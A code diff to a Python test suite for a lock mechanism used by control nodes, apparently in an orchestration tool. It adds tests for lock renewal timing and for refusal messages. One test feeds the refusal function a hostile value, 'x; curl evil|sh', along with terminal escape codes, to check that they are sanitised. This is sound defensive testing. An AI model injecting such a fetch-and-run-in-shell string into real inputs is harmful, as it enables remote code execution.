@@ -98,7 +98,7 @@ def test_a_control_node_knows_its_own_dead_and_nobody_elses() -> None:
 def test_a_check_run_leaves_no_trace(tmp_path: Path) -> None:
     directory = tmp_path / "new"
     told = {"changed": True, "held": True, "holder": None, "quiet": 0.0, "stale": False, "unfinished": 0.0}
-    told["who"] = "alice on control"
+    told = {**told, "who": "alice on control", "renewed": False}
     assert ask(directory, "alice", check=True) == told
     assert not directory.exists()
     ask(directory, "alice")
@@ -142,6 +142,8 @@ def test_A13_the_refusal_names_who_what_since_when_and_the_way_on() -> None:
     hostile = {**holder, "run": "x; curl evil|sh", "who": "\x1b[2J" * 99, "since": 1e300}
     told = lock.refusal("orders", [{"held": False, "holder": hostile}])
     assert told.endswith("-e redis_dead_run=x__curl_evil_sh") and told.isprintable() and len(told) < 500
+    told = lock.refusal("orders", [held, {"held": False, "holder": holder}], renewing=True)
+    assert told.startswith("Another run took the lock of estate orders while this one worked")
     for odd in (None, [], "x", {"run": 1}, {**holder, "since": "nan"}, {**holder, "since": {}}):
         assert lock.refusal("orders", [{"held": False, "holder": odd}, odd]).startswith("Estate orders was changed")
 
@@ -171,6 +173,25 @@ def test_A13_a_lock_is_taken_over_from_the_dead_only(quiet: str, over: bool, why
     ended.wait()
     since = 9000.0 if quiet.endswith(("alive", "quiet")) else 10.0
     assert lock.may_take_over(process, since, 3600.0) is over, why
+
+
+@pytest.mark.parametrize(
+    ("answer", "due"),
+    [
+        ({"held": True, "asked": 1000.0}, False),
+        ({"held": True, "asked": 99.0}, True),
+        ({"held": True}, True),
+        ({"held": False, "asked": 0.0}, False),
+        ({"skipped": True}, False),
+        (None, False),
+    ],
+)
+def test_A13_a_held_lock_is_renewed_when_a_quarter_of_the_time_is_over(answer: Any, due: bool) -> None:
+    """Before: a lock was renewed by nobody, however long its run took.
+
+    Now: well before another control node takes it for left behind, and not at each step.
+    """
+    assert lock.is_due(answer, 3600.0, 1000.0) is due
 
 
 def test_without_root_a_lock_lies_in_a_folder_of_the_users_own(tmp_path: Path) -> None:
